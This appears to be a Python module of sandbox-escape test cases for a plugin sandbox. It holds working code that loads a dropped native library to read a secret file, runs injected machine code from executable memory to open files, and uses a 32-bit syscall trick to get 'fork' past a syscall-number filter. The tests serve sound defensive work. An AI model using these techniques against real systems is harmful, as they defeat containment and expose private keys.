"""Native code of the plugin's own: it must get no further than Python does."""

from __future__ import annotations

import base64
import ctypes
import mmap
import os
import platform
import struct
from pathlib import Path

from .attack import attack


@attack(secret="file")
def read_private_key_by_dropped_library(target):
    """The stage gives the library's bytes; they are loaded from the scratch folder."""
    library = Path(target["scratch"], "dropped.so")
    library.write_bytes(base64.b64decode(target["library"]))
    library.chmod(0o755)
    loaded = ctypes.CDLL(str(library), use_errno=True)
    found = ctypes.create_string_buffer(4096)
    ctypes.set_errno(0)
    length = loaded.steal(target["secret_file"].encode(), found, len(found))
    if length < 0:
        raise OSError(-length, "steal")
    return found.raw[:length].decode()


@attack(secret="file")
def read_private_key_by_machine_code(target):
    """Written into memory, so that no file is loaded: `open`, as three instructions."""
    code = {
        "x86_64": bytes.fromhex("b80200000031f631d20f05c3"),
        "aarch64": struct.pack("<6I", 0xAA0003E1, 0x92800C60, 0xD2800002, 0xD2800708,
                               0xD4000001, 0xD65F03C0),
    }[platform.machine()]  # fmt: skip
    with mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC) as page:
        page.write(code)
        held = ctypes.c_char.from_buffer(page)
        open_file = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p)(ctypes.addressof(held))
        descriptor = open_file(target["secret_file"].encode())
        del open_file, held
    if descriptor < 0:
        raise OSError(-descriptor, "open by machine code")
    return os.read(descriptor, 4096).decode()


@attack()
def fork_by_thirty_two_bit_call(target):
    """A filter that looks at numbers alone takes `fork` of 32 bits for `open` of 64."""
    if platform.machine() != "x86_64":
        raise NotImplementedError("x86 only")
    # mov eax,2; int 0x80; test eax,eax; jnz out; mov eax,1; mov ebx,77; int 0x80; out: ret
    code = bytes.fromhex("53b802000000cd8085c0750cb801000000bb4d000000cd805bc3")
    with mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC) as page:
        page.write(code)
        held = ctypes.c_char.from_buffer(page)
        forked = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(held))
        pid = forked()
        del forked, held
    if pid < 0:
        raise OSError(-pid, "fork by int 0x80")
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
